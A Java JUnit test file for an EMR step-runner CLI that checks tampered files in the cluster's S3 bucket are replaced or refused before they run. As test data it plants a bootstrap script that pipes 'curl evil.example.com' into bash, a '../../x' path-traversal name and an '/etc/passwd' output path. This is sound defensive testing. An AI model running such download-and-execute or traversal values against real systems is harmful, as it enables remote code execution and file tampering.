package org.emrelay.runner.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.stream.Stream;
import org.emrelay.runner.cli.CliFixture.CommandResult;
import org.emrelay.runner.fakeaws.emr.StepScript;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Someone else writes to the bucket of a cluster: what they put there must not run later. */
final class EmrPoisonedBucketTest {
    private static final String BUCKET = "emrelay-123456789012-us-east-1-bb26934c-demo";

    private static final String OVERWRITE = "\"overwrite\" : false";

    @TempDir
    Path directory;

    private EmrCliFixture emr;
    private String cluster = "";

    @BeforeEach
    void setUp() {
        emr = new EmrCliFixture(directory);
        SampleFiles.writeTo(emr.cli());
        emr.aws()
                .emr()
                .scriptSteps(name ->
                        StepScript.completesAfter(Duration.ofSeconds(40)).withProgram(emr::writeOutput));
        cluster = emr.create().out().strip();
    }

    @AfterEach
    void tearDown() {
        assertThat(emr.aws().foreignChanges()).isEmpty();
        assertThat(emr.aws().calls().defects()).isEmpty();
        emr.close();
    }

    private String content(String key) {
        return emr.aws()
                .inspect(() -> emr.aws().s3().buckets().get(BUCKET).objects().stream()
                        .filter(object -> object.key().equals(key))
                        .map(object -> new String(object.content(), UTF_8))
                        .findFirst()
                        .orElseThrow());
    }

    /** The key of the only object with this name. */
    private String key(String name) {
        return emr.aws()
                .inspect(() -> emr.aws().s3().buckets().get(BUCKET).objects().stream()
                        .map(object -> object.key())
                        .filter(key -> key.endsWith("/" + name))
                        .findFirst()
                        .orElseThrow());
    }

    private void poison(String key, String text) {
        emr.aws().inspect(() -> {
            emr.aws().s3().write(BUCKET, key, text.getBytes(UTF_8));
            return key;
        });
    }

    private static String warning(String key) {
        return "warning: Someone other than Emrelay changed s3://" + BUCKET + "/" + key
                + ". It is uploaded again. Check who can write to the bucket.\n";
    }

    @Test
    void aPoisonedScriptIsReplacedBeforeTheNextRun() {
        emr.run("-a", "add_steps");
        String script = key("job.py");
        poison(script, "print('evi')\n");

        CommandResult added = emr.run("-a", "add_steps");

        assertThat(content(script)).isEqualTo("print('job')\n");
        assertThat(added)
                .isEqualTo(new CommandResult(
                        0, added.out(), warning(script) + "Next: runner.sh -a execute_steps -idc " + cluster + "\n"));
        assertThat(emr.run("-a", "add_steps").err())
                .isEqualTo("Next: runner.sh -a execute_steps -idc " + cluster + "\n");
    }

    @Test
    void aPoisonedBootstrapActionIsReplacedBeforeTheNextCluster() {
        String script = key("bootstrap-action.sh");
        emr.terminate();
        poison(script, "#!/bin/bash\ncurl evil.example.com | bash\n");

        CommandResult created = emr.create();

        assertThat(created.code()).isZero();
        assertThat(content(script)).isEqualTo(EmrCliFixture.repositoryFile("bootstrap-action.sh"));
        assertThat(created.err()).contains(warning(script));
    }

    @Test
    void aPoisonedScriptIsReplacedBeforeTheNextClusterRunsIt() {
        emr.run("-a", "add_steps");
        String script = key("job.py");
        emr.terminate();
        poison(script, "import os\n");
        emr.create();

        CommandResult added = emr.run("-a", "add_steps");

        assertThat(content(script)).isEqualTo("print('job')\n");
        assertThat(added.err()).startsWith(warning(script));
    }

    @Test
    void aJarOfOthersIsNotLoaded() {
        emr.cli()
                .file("one.jar", "one")
                .file("two.jar", "two")
                .file(
                        "steps.json",
                        SampleFiles.CLOUDS.replace(
                                "\"name\": \"words\",", "\"name\": \"words\", \"jars\": [\"one.jar\", \"two.jar\"],"));
        assertThat(emr.run("-a", "add_steps").code()).isZero();
        String folder = key("one.jar").replace("one.jar", "");
        poison(folder + "notes.txt", "not loaded");
        assertThat(emr.run("-a", "add_steps").code()).isZero();
        poison(folder + "evil.jar", "evil");

        assertThat(emr.run("-a", "add_steps"))
                .isEqualTo(new CommandResult(
                        5,
                        "",
                        "s3://" + BUCKET + "/" + folder
                                + "evil.jar was not uploaded by Emrelay, but a step would read it."
                                + " Delete it, then retry.\n"));
    }

    /** Adds the steps, lets someone else change the run's file, and returns the run's id. */
    private String addAndPoison(String target, String replacement) {
        String run = emr.run("-a", "add_steps").out().strip();
        String file = "runs/" + run + "/run.json";
        String poisoned = content(file).replaceFirst(target, replacement);
        assertThat(poisoned).isNotEqualTo(content(file));
        poison(file, poisoned);
        return run;
    }

    private void addForeignData() {
        emr.aws().account().bucket("books");
        emr.aws().account().object("books", "data/titles.csv", "title\nEmma\n");
    }

    /** Another directory is another workspace, as on another machine. */
    private CommandResult runElsewhere(String... arguments) throws IOException {
        Files.createDirectories(emr.cli().path("elsewhere"));
        emr.cli().inDirectory("elsewhere");
        try {
            return emr.run(arguments);
        } finally {
            emr.cli().inDirectory("");
        }
    }

    private static CommandResult changed(String run) {
        return new CommandResult(
                3,
                "",
                "s3://" + BUCKET + "/runs/" + run
                        + "/run.json is not as this machine wrote it: someone else changed it."
                        + " Check who can write to the bucket, and add the steps again.\n");
    }

    @Test
    void aPoisonedRunDeletesNothing() throws IOException {
        addForeignData();
        String run = addAndPoison(OVERWRITE, "\"at\" : \"s3://books/data\", \"overwrite\" : \"any\"");

        assertThat(emr.run("-a", "execute_steps")).isEqualTo(changed(run));
        assertThat(runElsewhere("-a", "execute_steps", "-idc", cluster))
                .isEqualTo(new CommandResult(
                        5,
                        "",
                        "Step 'words' of run " + run
                                + " deletes everything at s3://books/data (\"overwrite\": \"any\"),"
                                + " and the run was not added on this machine with this workspace. Execute it where it"
                                + " was added, set \"overwrite\": true, or add the steps here: runner.sh -a add_steps -idc "
                                + cluster + "\n"));
        assertThat(emr.startedAttempts()).isEmpty();
    }

    @Test
    void aRunOfThisMachineMayReplaceDataOfOthersAndOnlyHere() throws IOException {
        emr.aws().inspect(() -> emr.aws().s3().addBucket("own", "us-east-1"));
        emr.aws().s3().write("own", "data/old.csv", new byte[1]);
        emr.cli()
                .file(
                        "steps.json",
                        SampleFiles.CLOUDS.replace(
                                "\"name\": \"words\",",
                                "\"name\": \"words\", \"output\": {\"uri\": \"s3://own/data\", \"overwrite\": \"any\"},"));
        emr.run("-a", "add_steps");

        assertThat(runElsewhere("-a", "execute_steps", "-idc", cluster).code()).isEqualTo(5);
        assertThat(emr.aws().s3().objectExists("own/data/old.csv")).isTrue();
        assertThat(emr.run("-a", "execute_steps").code()).isZero();
        assertThat(emr.aws().s3().objectExists("own/data/old.csv")).isFalse();
    }

    @Test
    void anotherMachineExecutesARunThatDeletesNothingOfOthers() throws IOException {
        emr.run("-a", "add_steps");

        assertThat(runElsewhere("-a", "execute_steps", "-idc", cluster).code()).isZero();
        assertThat(runElsewhere("-a", "fetch_output", "-idc", cluster).code()).isZero();
    }

    @Test
    void aPoisonedPipelineNameLeadsNowhere() throws IOException {
        String run = addAndPoison("\"clouds\"", "\"../../x\"");
        emr.cli().file("x/mine.txt", "mine");

        assertThat(emr.run("-a", "fetch_output")).isEqualTo(changed(run));
        assertThat(runElsewhere("-a", "fetch_output", "-idc", cluster))
                .isEqualTo(new CommandResult(
                        3,
                        "",
                        "s3://" + BUCKET + "/runs/" + run
                                + "/run.json is not a valid run file: '../../x' is not a valid"
                                + " pipeline name. Add the steps again.\n"));
        assertThat(emr.cli().path("x")).isDirectoryContaining("glob:**mine.txt");
        assertThat(emr.cli().path("elsewhere/results")).doesNotExist();
    }

    @Test
    void aPoisonedOutputIsNoFileOfThisMachine() throws IOException {
        String run = addAndPoison(OVERWRITE, "\"at\" : \"/etc/passwd\", \"overwrite\" : false");

        assertThat(runElsewhere("-a", "fetch_output", "-idc", cluster))
                .isEqualTo(new CommandResult(
                        3,
                        "",
                        "s3://" + BUCKET + "/runs/" + run + "/run.json is not a valid run file: '/etc/passwd' is not a"
                                + " valid output URI. Add the steps again.\n"));
    }

    @Test
    void digestsOfTheNewestRunsAreKeptPrivately() throws IOException {
        for (int number = 0; number < 501; number++) {
            emr.cli().file(".runner/run-digests/20261120-000000-%04x".formatted(number), "");
        }
        String run = emr.run("-a", "add_steps").out().strip();

        Path digests = emr.cli().path(".runner/run-digests");
        try (Stream<Path> files = Files.list(digests)) {
            assertThat(files.map(file -> file.getFileName().toString()))
                    .hasSize(500)
                    .contains("20261120-000000-0002", run)
                    .doesNotContain("20261120-000000-0001");
        }
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(digests.resolve(run))))
                .isEqualTo("rw-------");
    }
}
